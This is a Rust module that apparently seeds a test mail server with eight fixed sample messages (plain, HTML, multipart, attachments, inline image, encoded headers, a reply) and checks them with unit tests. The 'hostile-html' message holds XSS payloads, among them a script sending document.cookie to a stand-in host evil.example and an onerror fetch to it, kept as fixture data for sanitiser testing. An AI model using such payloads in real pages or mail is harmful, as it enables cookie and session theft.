//! A sample mailbox made in code: eight messages covering the shapes a mail client meets
//! (plain, HTML, alternative, attachments, an inline `cid:` image, RFC 2047 headers in UTF-8
//! and ISO-8859-1, hostile HTML, a threaded reply). Output is deterministic: fixed dates,
//! ids and boundaries, CRLF line ends.
//!
//! ```
//! use inbound_test_server::{mailstore::MailStore, sample};
//!
//! let store = MailStore::new();
//! store.add_user("demo", "demo");
//! sample::seed_store(&store, "demo", "INBOX").unwrap();
//! assert_eq!(store.status("demo", "INBOX").unwrap().messages, sample::sample_mailbox().len() as u32);
//! ```

use std::time::{Duration, SystemTime, UNIX_EPOCH};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use crate::mailstore::{Flag, FlagSet, MailStore, StoreError};

/// A valid 4x4 red PNG, for the inline image.
pub const RED_PNG: &[u8] = &[
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52,
    0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0x04, 0x08, 0x02, 0x00, 0x00, 0x00, 0x26, 0x93, 0x09,
    0x29, 0x00, 0x00, 0x00, 0x10, 0x49, 0x44, 0x41, 0x54, 0x78, 0xda, 0x63, 0xb8, 0x60, 0x60, 0x00,
    0x47, 0x0c, 0xc4, 0x71, 0x00, 0xf8, 0x43, 0x13, 0x01, 0x46, 0xe9, 0x46, 0x94, 0x00, 0x00, 0x00,
    0x00, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
];

/// A small document that starts like a PDF (enough for type sniffing; not a full PDF).
pub const SAMPLE_PDF: &[u8] = b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n\
2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n";

/// One message of the sample mailbox.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SampleMessage {
    /// A short name saying what the message shows (`plain`, `html`, ...).
    pub name: &'static str,
    /// The raw RFC 5322 bytes, CRLF line ends.
    pub raw: Vec<u8>,
    /// The internal date (the same instant as the Date header).
    pub internal_date: SystemTime,
    /// Flags it is stored with.
    pub flags: FlagSet,
}

/// Message `n` (1-based) is dated 2024-03-`n` at `8 + n` o'clock UTC.
fn date(n: u64) -> (SystemTime, String) {
    const MARCH_1: u64 = 1_709_251_200; // Fri, 01 Mar 2024 00:00:00 +0000
    let hour = 8 + n;
    let secs = MARCH_1 + (n - 1) * 86_400 + hour * 3600;
    let weekday = ["Fri", "Sat", "Sun", "Mon", "Tue", "Wed", "Thu"][((n - 1) % 7) as usize];
    (
        UNIX_EPOCH + Duration::from_secs(secs),
        format!("{weekday}, {n:02} Mar 2024 {hour:02}:00:00 +0000"),
    )
}

/// Base64 in lines of 76 characters.
fn base64_lines(data: &[u8]) -> String {
    let encoded = STANDARD.encode(data);
    encoded
        .as_bytes()
        .chunks(76)
        .map(|c| String::from_utf8_lossy(c).into_owned() + "\r\n")
        .collect()
}

/// Joins lines with CRLF (and ends with one).
fn crlf(lines: &[&str]) -> Vec<u8> {
    let mut out = lines.join("\r\n");
    out.push_str("\r\n");
    out.into_bytes()
}

fn headers(n: u64, from: &str, subject: &str, extra: &[&str]) -> (SystemTime, String) {
    let (when, date) = date(n);
    let mut h = format!(
        "Date: {date}\r\nFrom: {from}\r\nTo: Demo User <demo@example.test>\r\nSubject: {subject}\r\n\
         Message-ID: <sample-{n}@example.test>\r\nMIME-Version: 1.0\r\n"
    );
    for line in extra {
        h.push_str(line);
        h.push_str("\r\n");
    }
    (when, h)
}

fn message(
    name: &'static str,
    head: (SystemTime, String),
    body: &[u8],
    flags: &[Flag],
) -> SampleMessage {
    let mut raw = head.1.into_bytes();
    raw.extend_from_slice(body);
    SampleMessage {
        name,
        raw,
        internal_date: head.0,
        flags: flags.iter().cloned().collect(),
    }
}

/// The sample mailbox, oldest first.
pub fn sample_mailbox() -> Vec<SampleMessage> {
    let alice = "Alice Example <alice@example.test>";
    vec![
        message(
            "plain",
            headers(
                1,
                alice,
                "Welcome to Inbound",
                &["Content-Type: text/plain; charset=us-ascii"],
            ),
            &crlf(&[
                "",
                "Hello!",
                "",
                "This is a plain text message.",
                "",
                "-- ",
                "Alice",
            ]),
            &[Flag::Seen],
        ),
        message(
            "html",
            headers(
                2,
                alice,
                "An HTML newsletter",
                &["Content-Type: text/html; charset=utf-8"],
            ),
            &crlf(&[
                "",
                "<html><body><h1>News</h1><p>Hello <b>Demo</b>, here is <a href=\"https://example.test/\">a link</a>.</p></body></html>",
            ]),
            &[],
        ),
        message(
            "alternative",
            headers(
                3,
                alice,
                "Text and HTML",
                &["Content-Type: multipart/alternative; boundary=\"alt-3\""],
            ),
            &crlf(&[
                "",
                "--alt-3",
                "Content-Type: text/plain; charset=utf-8",
                "",
                "The plain version.",
                "--alt-3",
                "Content-Type: text/html; charset=utf-8",
                "",
                "<p>The <i>HTML</i> version.</p>",
                "--alt-3--",
            ]),
            &[Flag::Flagged],
        ),
        attachments(),
        inline_image(),
        message(
            "encoded-headers",
            headers(
                6,
                "=?UTF-8?B?SsO8cmdlbiBNw7xsbGVy?= <juergen@example.test>",
                "=?UTF-8?B?R3LDvMOfZSBhdXMgTcO8bmNoZW4g4pyJ?= =?ISO-8859-1?Q?und_K=F6ln?=",
                &[
                    "Content-Type: text/plain; charset=iso-8859-1",
                    "Content-Transfer-Encoding: quoted-printable",
                ],
            ),
            &crlf(&["", "Sch=F6ne Gr=FC=DFe aus K=F6ln!"]),
            &[],
        ),
        message(
            "hostile-html",
            headers(
                7,
                "Mallory <mallory@example.test>",
                "You won a prize",
                &["Content-Type: text/html; charset=utf-8"],
            ),
            &crlf(&[
                "",
                "<html><head><script>document.location='https://evil.example/?c='+document.cookie</script></head>",
                "<body onload=\"alert(1)\"><p>Click <a href=\"javascript:alert(2)\">here</a>.</p>",
                "<img src=\"x\" onerror=\"fetch('https://evil.example/track')\">",
                "<iframe src=\"https://evil.example/\"></iframe></body></html>",
            ]),
            &[],
        ),
        message(
            "reply",
            headers(
                8,
                alice,
                "Re: Welcome to Inbound",
                &[
                    "In-Reply-To: <sample-1@example.test>",
                    "References: <sample-1@example.test>",
                    "Content-Type: text/plain; charset=utf-8; format=flowed",
                ],
            ),
            &crlf(&["", "A reply in the same thread.", "", "> Hello!"]),
            &[Flag::Answered, Flag::Keyword("$Forwarded".into())],
        ),
    ]
}

fn attachments() -> SampleMessage {
    let mut body = crlf(&[
        "",
        "--mixed-4",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "The report and the notes are attached.",
        "--mixed-4",
        "Content-Type: application/pdf; name=\"report.pdf\"",
        "Content-Disposition: attachment; filename=\"report.pdf\"",
        "Content-Transfer-Encoding: base64",
        "",
    ]);
    body.extend_from_slice(base64_lines(SAMPLE_PDF).as_bytes());
    body.extend_from_slice(&crlf(&[
        "--mixed-4",
        "Content-Type: text/plain; charset=utf-8; name=\"notes.txt\"",
        "Content-Disposition: attachment; filename=\"notes.txt\"",
        "",
        "1. Read the report.",
        "2. Reply.",
        "--mixed-4--",
    ]));
    let head = headers(
        4,
        "Bob Example <bob@example.test>",
        "Report with attachments",
        &["Content-Type: multipart/mixed; boundary=\"mixed-4\""],
    );
    message("attachments", head, &body, &[])
}

fn inline_image() -> SampleMessage {
    let mut body = crlf(&[
        "",
        "--related-5",
        "Content-Type: text/html; charset=utf-8",
        "",
        "<p>Our logo:</p><img src=\"cid:logo@example.test\" alt=\"logo\">",
        "--related-5",
        "Content-Type: image/png; name=\"logo.png\"",
        "Content-ID: <logo@example.test>",
        "Content-Disposition: inline; filename=\"logo.png\"",
        "Content-Transfer-Encoding: base64",
        "",
    ]);
    body.extend_from_slice(base64_lines(RED_PNG).as_bytes());
    body.extend_from_slice(b"--related-5--\r\n");
    let head = headers(
        5,
        "Bob Example <bob@example.test>",
        "Inline image",
        &["Content-Type: multipart/related; boundary=\"related-5\"; type=\"text/html\""],
    );
    message("inline-image", head, &body, &[])
}

/// Appends the sample mailbox to `folder` of `user` (with its flags and dates).
pub fn seed_store(store: &MailStore, user: &str, folder: &str) -> Result<(), StoreError> {
    for m in sample_mailbox() {
        store.append(user, folder, m.raw, m.flags, m.internal_date)?;
    }
    Ok(())
}

/// A simple generated message number `i` (for bulk seeding in benches): about 600 bytes.
pub fn generated_message(i: usize) -> Vec<u8> {
    let day = 1 + i % 28;
    let mut raw = format!(
        "Date: Mon, {day:02} Jan 2024 10:00:00 +0000\r\nFrom: Sender {s} <sender{s}@example.test>\r\n\
         To: demo@example.test\r\nSubject: Message {i}\r\nMessage-ID: <gen-{i}@example.test>\r\n\
         MIME-Version: 1.0\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n",
        s = i % 17,
    );
    for line in 0..8 {
        raw.push_str(&format!(
            "Line {line} of message {i}: the quick brown fox jumps over the lazy dog.\r\n"
        ));
    }
    raw.into_bytes()
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
mod tests {
    use super::*;

    #[test]
    fn mailbox_is_deterministic_and_well_formed() {
        let a = sample_mailbox();
        assert_eq!(a, sample_mailbox());
        assert_eq!(a.len(), 8);
        for m in &a {
            let text = String::from_utf8(m.raw.clone()).unwrap();
            assert!(
                !text.replace("\r\n", "").contains('\n'),
                "{}: bare LF",
                m.name
            );
            assert!(
                text.contains("\r\n\r\n"),
                "{}: no header/body split",
                m.name
            );
            assert!(text.is_ascii(), "{}: 8-bit bytes", m.name);
        }
        let dates: Vec<_> = a.iter().map(|m| m.internal_date).collect();
        assert!(dates.windows(2).all(|w| w[0] < w[1]), "oldest first");
    }

    #[test]
    fn date_header_matches_internal_date() {
        for m in sample_mailbox() {
            let text = String::from_utf8(m.raw).unwrap();
            let header = text.lines().find_map(|l| l.strip_prefix("Date: ")).unwrap();
            let secs = m
                .internal_date
                .duration_since(UNIX_EPOCH)
                .unwrap()
                .as_secs();
            let (day, hour) = (1 + (secs - 1_709_251_200) / 86_400, (secs % 86_400) / 3600);
            assert!(
                header.contains(&format!("{day:02} Mar 2024 {hour:02}:00:00")),
                "{header} vs {secs}"
            );
        }
    }

    #[test]
    fn inline_png_and_attachments_decode() {
        let all = sample_mailbox();
        let image = all.iter().find(|m| m.name == "inline-image").unwrap();
        let text = String::from_utf8(image.raw.clone()).unwrap();
        let start = text.find("base64\r\n\r\n").unwrap() + 10;
        let end = text.find("--related-5--").unwrap();
        let png = STANDARD
            .decode(text[start..end].replace("\r\n", ""))
            .unwrap();
        assert_eq!(png, RED_PNG);
        assert!(
            text.contains("cid:logo@example.test")
                && text.contains("Content-ID: <logo@example.test>")
        );
        let hostile = all.iter().find(|m| m.name == "hostile-html").unwrap();
        let text = String::from_utf8_lossy(&hostile.raw);
        assert!(text.contains("<script>") && text.contains("onerror="));
    }

    #[test]
    fn generated_messages_differ() {
        assert_ne!(generated_message(1), generated_message(2));
        assert!(
            String::from_utf8(generated_message(7))
                .unwrap()
                .contains("Subject: Message 7\r\n")
        );
    }
}
